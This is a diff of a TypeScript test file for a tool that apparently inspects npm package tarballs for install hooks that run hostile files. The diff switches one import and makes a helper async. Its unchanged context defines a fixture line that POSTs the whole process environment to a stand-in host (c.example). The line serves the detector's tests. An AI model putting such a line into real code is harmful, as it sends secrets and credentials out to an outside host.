@@ -2,16 +2,16 @@ import t from 'tap'
 import { inspect } from '../../src/inspection/inspect.ts'
 import { sha256 } from '../../src/model/digest.ts'
 import type { ContentFacts } from '../../src/model/fact.ts'
-import { readingOf } from './python-reading.ts'
+import { packedReading } from './python-reading.ts'
 
 const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
 const IMPORTS = `import './inner.txt'\n`
 
 type Files = Readonly<Record<string, string>>
 
-function inspected(manifest: object, files: Files): Promise<ContentFacts> {
+async function inspected(manifest: object, files: Files): Promise<ContentFacts> {
   const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
-  return inspect(readingOf('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
+  return inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
 }
 
 /** Ways in which a hook runs a file of the package; `files` besides the one that sends. */
